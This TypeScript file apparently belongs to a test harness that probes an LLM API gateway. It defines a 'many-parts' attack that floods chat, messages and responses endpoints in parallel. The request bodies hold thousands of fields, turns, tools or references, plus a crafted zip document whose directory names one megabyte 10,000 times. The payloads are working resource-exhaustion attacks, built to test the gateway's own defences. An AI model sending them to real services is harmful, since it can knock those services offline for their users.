import { CHAT_MODEL, MESSAGES_MODEL } from "../support/ask.ts";
import { type Attack, FEW_VND } from "./attack.ts";

const CHAT = "/v1/chat/completions";
const MESSAGES = "/v1/messages";
const RESPONSES = "/v1/responses";

const many = (count: number, part: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => part(at)).join();

/** Bodies of parts that are left out or counted, as many as a body may have: each must be read once, not once for each. */
function bodies(): (readonly [path: string, fields: string])[] {
  const said = '{"role":"user","content":"x"}';
  const turns = many(9_000, () => '{"role":"system","content":[{"type":"a"}]}');
  const data = `data:application/octet-stream;base64,${officeDocument().toString("base64")}`;
  const part = `{"type":"file","file":{"filename":"a.docx","file_data":"${data}"}}`;
  return [
    [MESSAGES, `"max_tokens":9,"messages":[${said}],${many(990, (at) => `"a${at}":1`)}`],
    [MESSAGES, `"max_tokens":9,"messages":[${turns},${said}]`],
    [RESPONSES, `"input":[${many(30_000, (at) => `{"id":"rs_${at}"}`)}]`],
    [RESPONSES, `"input":"x","tools":[${many(30_000, () => '{"type":"web_search"}')}]`],
    [CHAT, `"messages":[{"role":"user","content":[${part}]}]`],
  ];
}

/** A zip file whose directory names the same megabyte 10,000 times. */
function officeDocument(): Buffer {
  const text = Buffer.alloc(1_048_576, "a");
  const head = Buffer.alloc(30);
  head.write("PK\x03\x04", "latin1");
  const entry = Buffer.alloc(51);
  entry.write("PK\x01\x02", "latin1");
  entry.writeUInt32LE(text.length, 20);
  entry.writeUInt16LE(5, 28);
  entry.write("a.xml", 46);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(10_000, 10);
  end.writeUInt32LE(head.length + text.length, 16);
  return Buffer.concat([head, text, ...Array<Buffer>(10_000).fill(entry), end]);
}

export const manyParts: Attack = {
  name: "many-parts",
  what: "8 bodies at a time of thousands of fields, turns, references, tools, or names of one part of a document, with 10 đ",
  async run(target) {
    const { key } = await target.customer(FEW_VND);
    const requests = bodies().map(([path, fields]) => {
      const model = path === MESSAGES ? MESSAGES_MODEL : CHAT_MODEL;
      return [path, Buffer.from(`{"model":"${model}",${fields}}`)] as const;
    });
    const headers = { "anthropic-beta": "x" };
    await target.lanes(8, async (lane) => {
      for (let at = lane; at < lane + requests.length && !target.signal.aborted; at++) {
        const [path, body] = requests[at % requests.length] ?? [CHAT, Buffer.alloc(0)];
        await target.post(path, key, body, "application/json", headers);
      }
    });
  },
};
